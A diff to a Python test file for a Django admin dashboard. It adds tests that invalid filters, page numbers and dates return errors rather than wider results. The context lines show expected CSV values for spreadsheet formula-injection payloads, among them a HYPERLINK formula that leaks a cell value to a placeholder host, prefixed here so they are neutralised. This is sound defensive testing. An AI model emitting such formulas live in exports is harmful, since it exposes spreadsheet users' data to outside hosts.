@@ -242,3 +242,30 @@ def test_csv_export_neutralises_formula_leading_text(manager_client):
     assert row[header.index("order id")] == '\'=HYPERLINK("http://x/?"&B2,"Claim")'
     assert row[header.index("destination city")] == "'@SUM(1+1)"
     assert row[header.index("destination province")] == "'+1+2"
+
+
+@pytest.mark.parametrize(
+    "params",
+    [{"shop": "abc"}, {"level": "bogus"}, {"kind": "nope"}, {"min_hours": "99999999"}, {"due_within_hours": "-1"}],
+)
+def test_an_invalid_filter_is_an_error_never_a_wider_result(manager_client, params):
+    alert_for(ShopFactory(code="a"))
+
+    page = manager_client.get(reverse("admin:dashboard_stalled"), params)
+    export = manager_client.get(reverse("admin:dashboard_stalled"), {**params, "format": "csv"})
+
+    assert page.status_code == 200
+    assert page.context["filter"].errors
+    assert page.context["page"].rows == []
+    assert export.status_code == 400
+    assert "The export was not made" in export.content.decode()
+
+
+def test_absurd_page_numbers_and_dates_answer_a_page(manager_client):
+    alert_for(ShopFactory(code="a"))
+    assert manager_client.get(reverse("admin:dashboard_stalled"), {"page": "99999999999999999999"}).status_code == 200
+    for url in ("admin:dashboard_shops", "admin:dashboard_outlets"):
+        for dates in ({"date_from": "0001-01-01"}, {"date_to": "9999-12-31"}, {"date_from": "9999-12-31", "date_to": "9999-12-31"}):
+            response = manager_client.get(reverse(url), dates)
+            assert response.status_code == 200
+            assert response.context["form"].errors
